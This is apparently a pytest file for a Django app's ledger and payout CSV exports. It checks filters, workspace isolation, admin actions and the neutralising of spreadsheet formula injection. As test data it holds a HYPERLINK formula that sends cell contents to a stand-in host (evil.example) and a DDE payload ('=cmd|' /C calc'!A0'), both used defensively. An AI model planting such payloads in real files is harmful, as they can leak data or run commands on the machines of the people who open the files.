"""Ledger and payout CSV exports: the API routes, the admin actions, formula-injection neutralising."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.contrib.auth import get_user_model
from django.test import Client
from django.utils import timezone
from rest_framework.test import APIClient

from agents.models import Agent
from commissions import export
from commissions.models import LedgerEntry, Payout
from ingestion.workspaces import CreatedWorkspace
from tests.commissions.support import decide, pay, refund, run_ledger
from tests.factories import AgentFactory

pytestmark = pytest.mark.django_db

NOW = timezone.now()
PAST = NOW - timedelta(days=40)
HOSTILE_REF = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"


def rows_of(response: Any) -> list[dict[str, str]]:
    """Parse a CSV response (streamed or not) into dicts keyed by the header."""
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    text = raw.decode("utf-8").removeprefix("\ufeff")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def raw_text(response: Any) -> str:
    return b"".join(response.streaming_content).decode("utf-8")


@pytest.fixture
def agent(tenant: CreatedWorkspace) -> Agent:
    return AgentFactory(workspace=tenant.workspace, name="=cmd|' /C calc'!A0", email="anna@partners.test")


@pytest.fixture
def ledger(tenant: CreatedWorkspace, agent: Agent) -> dict[str, LedgerEntry]:
    """A payable USD referral refunded by 10 % (a -1.98 reversal), one with a hostile ref, a pending EUR one."""
    ws = tenant.workspace.id
    decide(pay(ws, "pi_1", at=PAST), agent_id=agent.id, customer_id="cus_1")
    refund(ws, "pi_1", 990, at=PAST + timedelta(days=1))
    decide(pay(ws, HOSTILE_REF, 5000, at=PAST + timedelta(hours=1)), agent_id=agent.id, customer_id="cus_2")
    decide(pay(ws, "pi_3", 10000, "EUR", at=NOW - timedelta(days=1)), agent_id=agent.id, customer_id="cus_3")
    run_ledger()
    return {f"{e.payment_ref}:{e.kind}": e for e in LedgerEntry.objects.all()}


# --- cells ----------------------------------------------------------------------------------------

@pytest.mark.smoke
@pytest.mark.parametrize("cell", ["=1+1", "+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "  =1+1", "-",
                                  "-1e3", "-9,90", "- 5", "+12", "=-5"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_prefixed_with_a_quote(cell: str) -> None:
    """Cells starting with = + - @ tab CR (also after spaces) are shown as text, number look-alikes too."""
    assert export.neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-9.90", "-990", "19.80", "0", "Ada Lovelace", "a=b", "", "pi_3PQ1x2",
                                  "2024-05-01T12:00:00Z"])
def test_plain_numbers_including_negative_amounts_and_ordinary_text_are_kept(cell: str) -> None:
    """A negative amount stays a number (it cannot run anything) and plain text is unchanged."""
    assert export.neutralise(cell) == cell


def test_every_cell_of_a_row_is_neutralised_and_the_header_is_written_first() -> None:
    """csv_lines quotes as needed, ends lines with CRLF and neutralises each cell."""
    lines = list(export.csv_lines(["a", "b"], [["=x", "-1.50"], ['say "hi", @you', None]]))
    assert lines == ["a,b\r\n", "'=x,-1.50\r\n", '"say ""hi"", @you",\r\n']


# --- GET /api/commissions/export.csv --------------------------------------------------------------

@pytest.mark.smoke
def test_the_ledger_export_has_the_api_fields_of_every_entry(api: APIClient, ledger: dict[str, LedgerEntry]) -> None:
    """Each CSV row carries the same values as GET /api/commissions for that entry, oldest first."""
    response = api.get("/api/commissions/export.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="refairn-ledger-')
    rows = rows_of(response)
    listed = {item["commissionId"]: item for item in api.get("/api/commissions").json()["data"]}
    assert [row["commissionId"] for row in rows] == [
        e.id for e in sorted(ledger.values(), key=lambda e: (e.created_position, e.id))]
    assert list(rows[0]) == list(export.LEDGER_COLUMNS)
    for row in rows:
        item = listed[row["commissionId"]]
        for column in export.LEDGER_COLUMNS:
            expected = item[column]
            expected = "" if expected is None else str(expected)
            if column == "paymentRef":
                expected = export.neutralise(expected)
            assert row[column] == expected, column


def test_a_reversal_keeps_its_negative_amount_as_a_plain_number(api: APIClient,
                                                                 ledger: dict[str, LedgerEntry]) -> None:
    """The refund's reversal is -1.98 / -198 in the file, unquoted, so a spreadsheet can sum it."""
    text = raw_text(api.get("/api/commissions/export.csv", {"kind": "reversal"}))
    reversal = ledger["pi_1:reversal"]
    assert f"{reversal.id},{reversal.agent_id},cus_1,reversal,-1.98,-198,USD," in text
    assert "'-1.98" not in text
    assert "'-198" not in text


def test_a_hostile_payment_ref_is_neutralised_in_the_ledger_export(api: APIClient,
                                                                   ledger: dict[str, LedgerEntry]) -> None:
    """A payment ref that is a formula comes out prefixed with a quote, whole and still readable."""
    rows = rows_of(api.get("/api/commissions/export.csv", {"kind": "referral"}))
    refs = [row["paymentRef"] for row in rows]
    assert "'" + HOSTILE_REF in refs
    assert not any(ref.startswith("=") for ref in refs)


@pytest.mark.parametrize(("params", "expected"), [
    ({"status": "payable"}, ["pi_1:referral", "pi_1:reversal", f"{HOSTILE_REF}:referral"]),
    ({"status": "pending"}, ["pi_3:referral"]),
    ({"currency": "eur"}, ["pi_3:referral"]),
    ({"kind": "reversal"}, ["pi_1:reversal"]),
    ({"paymentRef": "pi_1"}, ["pi_1:referral", "pi_1:reversal"]),
    ({"customerId": "cus_3"}, ["pi_3:referral"]),
    ({"agentId": "agt_nobody"}, []),
])
def test_the_ledger_export_takes_the_filters_of_the_list(api: APIClient, ledger: dict[str, LedgerEntry],
                                                         params: dict[str, str], expected: list[str]) -> None:
    """status, currency, kind, paymentRef, customerId and agentId filter the file as they filter the list."""
    ids = {ledger[key].id for key in expected}
    rows = rows_of(api.get("/api/commissions/export.csv", params))
    assert {row["commissionId"] for row in rows} == ids
    listed = api.get("/api/commissions", params).json()["data"]
    assert {item["commissionId"] for item in listed} == ids


def test_as_of_in_the_past_labels_the_entries_as_they_were(api: APIClient, ledger: dict[str, LedgerEntry]) -> None:
    """asOf one day after the first payment: that referral is pending, later entries are not in yet."""
    rows = rows_of(api.get("/api/commissions/export.csv", {"asOf": (PAST + timedelta(hours=2)).isoformat()}))
    assert {row["commissionId"]: row["status"] for row in rows} == {
        ledger["pi_1:referral"].id: "pending", ledger[f"{HOSTILE_REF}:referral"].id: "pending"}


def test_the_ledger_export_walks_every_entry_across_chunks(api: APIClient, ledger: dict[str, LedgerEntry],
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """Paged two rows at a time, the file still has every entry exactly once, in ledger order."""
    monkeypatch.setattr(export, "CHUNK", 2)
    whole = [row["commissionId"] for row in rows_of(api.get("/api/commissions/export.csv"))]
    assert len(whole) == len(ledger) == 4
    assert len(set(whole)) == 4


def test_a_bad_filter_is_a_json_400_even_when_the_client_asks_for_csv(api: APIClient) -> None:
    """Errors keep the API's JSON shape whatever the Accept header."""
    response = api.get("/api/commissions/export.csv", {"status": "nope"}, HTTP_ACCEPT="text/csv")
    assert response.status_code == 400
    assert response.json()["error"]["field"] == "status"


def test_the_export_needs_a_key(ledger: dict[str, LedgerEntry]) -> None:
    """Without a Bearer key: 401, nothing exported."""
    response = APIClient().get("/api/commissions/export.csv")
    assert response.status_code == 401
    assert "commissionId" not in response.content.decode()


def test_another_workspaces_key_exports_only_its_own_empty_ledger(ledger: dict[str, LedgerEntry],
                                                                  other_tenant: CreatedWorkspace) -> None:
    """A second workspace's key gets the header only, even when it names the first workspace's agent."""
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {other_tenant.api_key.secret}")
    agent_id = ledger["pi_1:referral"].agent_id
    for path in ("/api/commissions/export.csv", "/api/payouts/export.csv"):
        response = client.get(path, {"agentId": agent_id})
        assert response.status_code == 200
        text = raw_text(response)
        assert text.count("\r\n") == 1, text
        assert agent_id not in text


# --- payouts --------------------------------------------------------------------------------------

@pytest.fixture
def payouts(api: APIClient, tenant: CreatedWorkspace, ledger: dict[str, LedgerEntry], agent: Agent) -> list[str]:
    """A confirmed USD payout of ``agent`` (with a hostile reference) and an open one of a second agent."""
    ws = tenant.workspace.id
    ben = AgentFactory(workspace=tenant.workspace, name="Ben Båtsman", email="ben@partners.test")
    decide(pay(ws, "pi_ben", 20000, "EUR", at=PAST), agent_id=ben.id, customer_id="cus_9")
    run_ledger()
    body = {"businessId": ws}
    first = api.post("/api/payouts", {**body, "agentId": agent.id, "currency": "USD"}, format="json")
    assert first.status_code == 201, first.content
    first_id = first.json()["payoutId"]
    confirmed = api.post(f"/api/payouts/{first_id}/confirm", {**body, "reference": "@SUM(1+1)*cmd"}, format="json")
    assert confirmed.status_code == 200, confirmed.content
    second = api.post("/api/payouts", {**body, "agentId": ben.id, "currency": "EUR"}, format="json")
    assert second.status_code == 201, second.content
    return [first_id, second.json()["payoutId"]]


@pytest.mark.smoke
def test_the_payout_file_has_one_row_per_agent_and_currency(api: APIClient, payouts: list[str],
                                                            agent: Agent) -> None:
    """Each payout is a row: agent, name, email, currency, net amount, entry count, status, reference."""
    rows = rows_of(api.get("/api/payouts/export.csv"))
    assert [row["payoutId"] for row in rows] == payouts
    usd, eur = rows
    assert (usd["agentId"], usd["agentEmail"], usd["currency"], usd["amount"], usd["amountMinor"], usd["entries"],
            usd["status"]) == (agent.id, "anna@partners.test", "USD", "27.82", "2782", "3", "confirmed")
    assert (eur["agentName"], eur["currency"], eur["amount"], eur["entries"], eur["status"], eur["reference"]) == (
        "Ben Båtsman", "EUR", "40.00", "1", "created", "")


def test_the_payout_file_neutralises_agent_names_and_references(api: APIClient, payouts: list[str]) -> None:
    """An agent named like a formula and a reference starting with @ come out prefixed with a quote."""
    usd = rows_of(api.get("/api/payouts/export.csv", {"currency": "USD"}))[0]
    assert usd["agentName"] == "'=cmd|' /C calc'!A0"
    assert usd["reference"] == "'@SUM(1+1)*cmd"


def test_the_payout_file_takes_the_filters_of_the_payout_list(api: APIClient, payouts: list[str]) -> None:
    """status and currency filter the payout file; a bad status is a JSON 400."""
    assert [r["payoutId"] for r in rows_of(api.get("/api/payouts/export.csv", {"status": "created"}))] == payouts[1:]
    assert [r["payoutId"] for r in rows_of(api.get("/api/payouts/export.csv", {"currency": "USD"}))] == payouts[:1]
    assert api.get("/api/payouts/export.csv", {"status": "lost"}).status_code == 400


def test_the_ledger_export_lists_the_entries_of_one_payout(api: APIClient, payouts: list[str],
                                                          ledger: dict[str, LedgerEntry]) -> None:
    """payoutId limits the ledger file to what that payout covers, each row naming the payout."""
    rows = rows_of(api.get("/api/commissions/export.csv", {"payoutId": payouts[0]}))
    assert {row["commissionId"] for row in rows} == {
        ledger[key].id for key in ("pi_1:referral", "pi_1:reversal", f"{HOSTILE_REF}:referral")}
    assert {row["payoutId"] for row in rows} == {payouts[0]}
    assert {row["status"] for row in rows} == {"paid"}


# --- admin actions --------------------------------------------------------------------------------

@pytest.fixture
def operator(client: Client, tenant: CreatedWorkspace) -> Client:
    """A staff operator of the tenant's workspace only, allowed to view entries and payouts."""
    from django.contrib.auth.models import Permission

    user = get_user_model().objects.create_user("op", "op@example.com", "pw", is_staff=True)
    user.user_permissions.add(*Permission.objects.filter(codename__in=["view_ledgerentry", "view_payout"]))
    tenant.workspace.operators.add(user)
    client.force_login(user)
    return client


def test_the_ledger_admin_action_downloads_the_selected_entries(operator: Client,
                                                                ledger: dict[str, LedgerEntry]) -> None:
    """Chosen entries come out as CSV (BOM for Excel), with their status now, neutralised."""
    chosen = [ledger["pi_1:reversal"].id, ledger[f"{HOSTILE_REF}:referral"].id]
    response = operator.post("/admin/commissions/ledgerentry/", {
        "action": "export_entries_csv", ACTION_CHECKBOX_NAME: chosen})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbfcommissionId,")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert [(r["commissionId"], r["amount"], r["status"], r["paymentRef"]) for r in rows] == [
        (chosen[0], "-1.98", "payable", "pi_1"), (chosen[1], "10.00", "payable", "'" + HOSTILE_REF)]


def test_the_ledger_admin_action_exports_nothing_of_another_workspace(
        operator: Client, ledger: dict[str, LedgerEntry], other_tenant: CreatedWorkspace) -> None:
    """An id of a workspace the operator does not run is not exported even if posted."""
    outsider = AgentFactory(workspace=other_tenant.workspace)
    decide(pay(other_tenant.workspace.id, "pi_other", at=PAST), agent_id=outsider.id)
    run_ledger()
    foreign = LedgerEntry.objects.get(workspace=other_tenant.workspace).id
    response = operator.post("/admin/commissions/ledgerentry/", {
        "action": "export_entries_csv", ACTION_CHECKBOX_NAME: [foreign, ledger["pi_1:referral"].id]})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert ledger["pi_1:referral"].id in text
    assert foreign not in text


def test_the_payout_admin_action_downloads_the_payout_file(operator: Client, payouts: list[str]) -> None:
    """Selected payouts become the payout file, one row per agent and currency."""
    response = operator.post("/admin/commissions/payout/", {
        "action": "export_payout_file", ACTION_CHECKBOX_NAME: payouts})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [(r["payoutId"], r["currency"]) for r in rows] == [(payouts[0], "USD"), (payouts[1], "EUR")]
    assert Payout.objects.count() == 2  # downloading changes nothing


def test_the_schema_documents_both_exports_as_csv(api: APIClient) -> None:
    """/api/schema/ lists the two export routes with a text/csv 200 and their filters."""
    schema = APIClient().get("/api/schema/", {"format": "json"}).json()
    ledger = schema["paths"]["/api/commissions/export.csv"]["get"]
    assert "text/csv" in ledger["responses"]["200"]["content"]
    assert {p["name"] for p in ledger["parameters"]} >= {"asOf", "agentId", "status", "currency", "kind",
                                                         "paymentRef", "customerId", "payoutId"}
    payouts = schema["paths"]["/api/payouts/export.csv"]["get"]
    assert "text/csv" in payouts["responses"]["200"]["content"]
